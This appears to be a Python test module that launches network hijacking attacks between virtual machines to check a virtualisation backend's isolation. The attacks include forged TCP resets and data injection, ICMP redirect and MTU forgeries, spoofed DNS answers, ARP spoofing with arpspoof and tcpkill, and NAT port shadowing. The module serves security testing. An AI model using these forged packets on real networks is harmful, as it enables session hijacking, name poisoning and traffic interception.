"""To break into others' conversations: resets, injected data, redirects, forged errors, guessed ports, forged answers.

The attacker is given what it would otherwise have to guess, ports and sequence numbers, unless an attack says that it
is blind: what keeps it out must be the backend, not its luck.
"""

from __future__ import annotations

import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager
from dataclasses import dataclass

from scapy.layers.inet import ICMP, IP, TCP, UDP
from scapy.layers.l2 import ARP, Ether
from scapy.packet import Packet, Raw

from vfr_lab.battery import attack
from vfr_lab.battery.conversation import Side, side
from vfr_lab.battery.stage import ECHO, Stage
from vfr_lab.node import Call, Heard, Node, NodeError

SERVED, ASKED = 9000, 5300
SILENT = "192.0.2.53"  # of the LAN, and nobody's: who asks it waits


@dataclass(frozen=True, slots=True)
class Talk:
    """A conversation that goes on: the caller's hold on it, both ends as their own networks see them."""

    call: Call
    caller: Side
    callee: Side
    heard: Heard


@contextmanager
def _talk(s: Stage, caller: Node, callee: Node, address: str) -> Iterator[Talk]:
    """`caller` has a connection to a service of `callee` that echoes, by `address`."""
    with callee.listen("tcp", SERVED) as heard, ExitStack() as open_:
        with caller.watch() as near, callee.watch() as far:
            call = open_.enter_context(caller.call(address, SERVED))
            s.control(f"{callee.name} echoes what {caller.name} says", call.echoes(s.mark[:8]))
        callees = side(far, SERVED)
        # What domain 0 says is not translated, and leaves by another interface with each backend.
        callers = callees.other if caller is s.dom0 else side(near, call.port)
        yield Talk(call, callers, callees, heard)


def _to_db(s: Stage, packet: Packet) -> Packet:
    return Ether(src=s.web.mac, dst=s.db.mac) / packet


def _to_gateway(s: Stage, packet: Packet) -> Packet:
    return Ether(src=s.web.mac, dst=s.gateway_mac()) / packet


def _ended(s: Stage, talk: Talk, real: Node, port: int, next_hop: str | None) -> list[str]:
    """Whether the conversation is broken. If it is not, the same RST from its real end must break it."""
    time.sleep(0.1)
    if not talk.call.echoes():
        return ["the conversation is broken"]
    with real.watch() as seen:
        s.control("the conversation goes on", talk.call.echoes(b"once more"))
    real.send(Ether(src=real.mac, dst=next_hop) / side(seen, port).says("R"))
    time.sleep(0.1)
    s.control("the same segment from its real end breaks it", not talk.call.echoes())
    return []


@attack("hijack", tool="scapy", falls=("bridge", "xen1"))
def reset_in_the_peers_name(s: Stage) -> list[str]:
    """web resets db's conversation with lan1, in lan1's name.

    A RST with the right ports and sequence number, sent to db as if lan1 had. Nobody but lan1 may end it.
    """
    with _talk(s, s.db, s.lan1, s.address("lan1")) as talk:
        s.web.send(_to_db(s, talk.caller.other.says("R")))
        return _ended(s, talk, s.lan1, SERVED, s.lan1.knows(s.outside))


@attack("hijack", tool="scapy", falls="bridge")
def reset_in_the_victims_name(s: Stage) -> list[str]:
    """web resets db's conversation with lan1, in db's name.

    A RST with db's address and all the right numbers, sent to the gateway by web. The backend must not take it for
    db's, translate it and close what it knows of the conversation.
    """
    with _talk(s, s.db, s.lan1, s.address("lan1")) as talk:
        s.web.send(_to_gateway(s, talk.caller.says("R")))
        return _ended(s, talk, s.db, talk.call.port, s.gateway_mac("db"))


@attack("hijack", tool="scapy", falls="bridge")
def data_in_the_victims_name(s: Stage) -> list[str]:
    """web puts words into db's mouth.

    Data with db's address and the right sequence numbers, inside db's conversation with lan1. lan1's service must
    not read it.
    """
    with _talk(s, s.db, s.lan1, s.address("lan1")) as talk:
        s.web.send(_to_gateway(s, talk.caller.says("PA", s.mark)))
    return [f"lan1's service was told: {said}" for said in talk.heard.having(s.mark)]


@attack("hijack", tool="scapy", falls=("bridge", "xen1"))
def data_in_the_peers_name(s: Stage) -> list[str]:
    """web answers db in lan1's place, inside their conversation.

    Data with lan1's address and the right sequence numbers, sent straight to db. db's program must not read it.
    """
    with _talk(s, s.db, s.lan1, s.address("lan1")) as talk, s.db.watch() as seen:
        s.web.send(_to_db(s, talk.caller.other.says("PA", s.mark)))
        read = bytes.fromhex(s.db.ask("say", number=talk.call.number, data=b"and now?".hex()))
    s.control("db sees its segments in this conversation", seen.own)
    return [f"db's program read {read!r}"] if s.mark in read else []


@attack("hijack", tool="arpspoof, tcpkill", falls="bridge")
def tcpkill(s: Stage) -> list[str]:
    """web kills db's conversation with dsniff's tools.

    arpspoof tells db that web is the gateway, and tcpkill resets whatever web then gets to read. It guesses nothing.
    """
    db = s.address("db")
    s.control("dsniff is there", s.web.ok("which", "arpspoof", "tcpkill"))
    s.web.pings(db)  # arpspoof takes its victim's MAC from the kernel, if that knows it
    with _talk(s, s.db, s.lan1, s.address("lan1")) as talk, s.db.watch() as seen, ExitStack() as open_:
        open_.enter_context(s.web.running("tcpkill", "-i", "eth0", "-9", f"port {SERVED}"))
        time.sleep(1.1)  # for a second db's kernel stays with a MAC that it has just learnt
        open_.enter_context(s.web.running("arpspoof", "-i", "eth0", "-t", db, s.gateway))
        time.sleep(0.3)
        echoes = [talk.call.echoes(bytes([65 + n]) * 9) for n in range(3)]
    s.control("db goes on speaking meanwhile", seen.own)
    return [] if all(echoes) else ["the conversation is broken"]


@attack("hijack", tool="scapy", falls="bridge")
def hosts_conversation_with_the_lan(s: Stage) -> list[str]:
    """web resets the host's own conversation with lan1, in lan1's name.

    The host's kernel would take the RST for lan1's, though it came from a guest: an administrator's session, an
    update or a backup ends.
    """
    with _talk(s, s.dom0, s.lan1, s.address("lan1")) as talk:
        s.web.send(_to_gateway(s, talk.caller.other.says("R")))
        return _ended(s, talk, s.lan1, SERVED, s.lan1.knows(s.outside))


@attack("hijack", tool="scapy", falls="bridge")
def hosts_conversation_with_a_guest(s: Stage) -> list[str]:
    """web resets the host's conversation with db, in db's name.

    Domain 0 administers db by TCP. A RST from web with db's address and the right numbers may not end that.
    """
    with _talk(s, s.dom0, s.db, s.address("db")) as talk:
        s.web.send(_to_gateway(s, talk.callee.says("R")))
        return _ended(s, talk, s.db, SERVED, s.gateway_mac("db"))


@attack("hijack", tool="scapy", falls=("bridge", "bridge-filtered", "xen1"))
def smaller_packets(s: Stage) -> list[str]:
    """web has db believe that the way to lan1 is narrow.

    "Fragmentation needed, MTU 68", from web's own address, about a datagram of db's to lan1. A neighbour is not on that
    way: db's kernel may not be made to cut all that it sends there into pieces.
    """
    lan1 = s.address("lan1")
    quoted = IP(src=s.address("db"), dst=lan1, flags="DF") / UDP(sport=ASKED, dport=ECHO) / Raw(s.mark)
    error = IP(src=s.address("web"), dst=s.address("db")) / ICMP(type=3, code=4, nexthopmtu=68) / quoted
    with s.db.listen("udp", ASKED):
        s.control("db speaks with lan1", s.db.udp(lan1, ECHO, s.mark))
        s.web.send(_to_db(s, error))
        path = s.db.run("ip", "route", "get", lan1)
    s.control("db's kernel says which way it takes", "eth0" in path)
    return [f"db's way to lan1: {' '.join(path.split())}"] if "mtu" in path else []


@attack("hijack", tool="scapy", falls="bridge")
def better_gateway(s: Stage) -> list[str]:
    """web has db send by web what is for lan1.

    ICMP redirects in the gateway's name, that name web as the better way to lan1. db may not follow them: web would read
    and change everything.
    """
    web, db, lan1 = (s.address(name) for name in ("web", "db", "lan1"))
    quoted = IP(src=db, dst=lan1) / UDP(sport=ASKED, dport=ECHO) / Raw(s.mark)
    redirect = IP(src=s.gateway, dst=db) / ICMP(type=5, code=1, gw=web) / quoted
    with s.db.listen("udp", ASKED), s.web.watch() as seen:
        s.control("db speaks with lan1", s.db.udp(lan1, ECHO, s.mark[:8]))
        s.web.send(_to_db(s, ARP(op=1, hwsrc=s.web.mac, psrc=web, pdst=db)))
        s.web.send(_to_db(s, redirect), times=3, pace_s=0.03)
        s.db.udp(lan1, ECHO, s.mark)
    s.control("db still has a way to lan1", "eth0" in s.db.run("ip", "route", "get", lan1))
    return [f"web received what db said to lan1: {f}" for f in seen.having(s.mark)]


def _while_db_waits(s: Stage, forged: Packet) -> str:
    """What db's question to SILENT comes to, while web sends this to it."""
    with ThreadPoolExecutor(1) as one:
        arguments = {"address": SILENT, "port": 53, "own_port": ASKED, "timeout": 0.4, "data": s.mark.hex()}
        asking = one.submit(lambda: bytes.fromhex(s.db.ask("udp", **arguments)).decode())
        s.web.send(_to_db(s, forged), times=30, pace_s=0.01)
        try:
            return asking.result()
        except NodeError as error:
            return str(error)


@attack("hijack", tool="scapy", falls=("bridge", "xen1"))
def answer_in_the_servers_name(s: Stage) -> list[str]:
    """web answers db's question to a name server.

    db asks by UDP and waits; web sends it an answer with the server's address and port. db's program may not get it:
    this is how names are poisoned.
    """
    s.control("db gets lan1's answers", s.db.udp(s.address("lan1"), ECHO))
    answer = IP(src=SILENT, dst=s.address("db")) / UDP(sport=53, dport=ASKED) / Raw(b"forged")
    came = _while_db_waits(s, answer)
    s.control("db's question has an end", came)
    return [f"db takes for its answer: {came!r}"] if came == "forged" else []


@attack("hijack", tool="scapy", falls=("bridge", "xen1"))
def unreachable_in_the_servers_name(s: Stage) -> list[str]:
    """web has db believe that a server is not there.

    db asks by UDP and waits; web sends "port unreachable" with the server's address, about db's question. db's program
    may not be told so.
    """
    s.control("db gets lan1's answers", s.db.udp(s.address("lan1"), ECHO))
    quoted = IP(src=s.address("db"), dst=SILENT) / UDP(sport=ASKED, dport=53) / Raw(s.mark)
    came = _while_db_waits(s, IP(src=SILENT, dst=s.address("db")) / ICMP(type=3, code=3) / quoted)
    s.control("db's question has an end", came)
    return [f"db's program is told: {came}"] if "Refused" in came else []


@attack("hijack", tool="hping3", falls=("bridge", "routed", "xen1"))
def shadow_of_a_forward(s: Stage) -> list[str]:
    """web receives who comes for db's ssh.

    web sends a SYN from the port that is db's forward, to a port of inet's, with a TTL that ends on the way. If NAT
    lets web keep the port, inet's next connection from there to db's forward looks like an answer to web (the "port
    shadow" of CVE-2021-3773): web gets it, and can ask for db's passwords.
    """
    forward, client = s.guest("db").forward or 0, 40404
    s.control("inet reaches db's ssh by the forward", "SSH-" in s.inet.tcp(s.outside, forward))
    with s.web.watch() as seen, s.web.listen("tcp", forward):
        shadow = ("-s", str(forward), "-k", "-p", str(client), "-t", "2", s.address("inet"))
        s.web.run("timeout", "0.3", "hping3", "-q", "-S", "-c", "1", *shadow)
        s.inet.tcp(s.outside, forward, own_port=client)
    came = seen.having(lambda p: TCP in p and p[IP].src == s.address("inet") and p[TCP].dport == forward)
    return [f"web received what was for db's forward: {f}" for f in came[:4]]


@attack("hijack", tool="scapy", falls=("bridge", "routed", "xen1"))
def shadow_of_the_hosts_port(s: Stage) -> list[str]:
    """web answers in the place of a service of the host's.

    The host serves UDP on a port. web sends a datagram from the same port to lan1, so that NAT, if it lets web keep the
    port, takes lan1's question to the host for an answer to web. The host's clients may not be taken away.
    """
    service, client = 5060, 40405
    with s.dom0.listen("udp", service), s.web.listen("udp", service) as heard:
        s.control("lan1 reaches the host's service", s.lan1.udp(s.outside, service, s.mark))
        own = IP(src=s.address("web"), dst=s.address("lan1")) / UDP(sport=service, dport=client) / Raw(s.mark)
        s.web.send(_to_gateway(s, own))
        s.lan1.udp(s.outside, service, b"secret" + s.mark, own_port=client)
    return [f"web was told what lan1 said to the host: {said}" for said in heard.having(b"secret" + s.mark)]
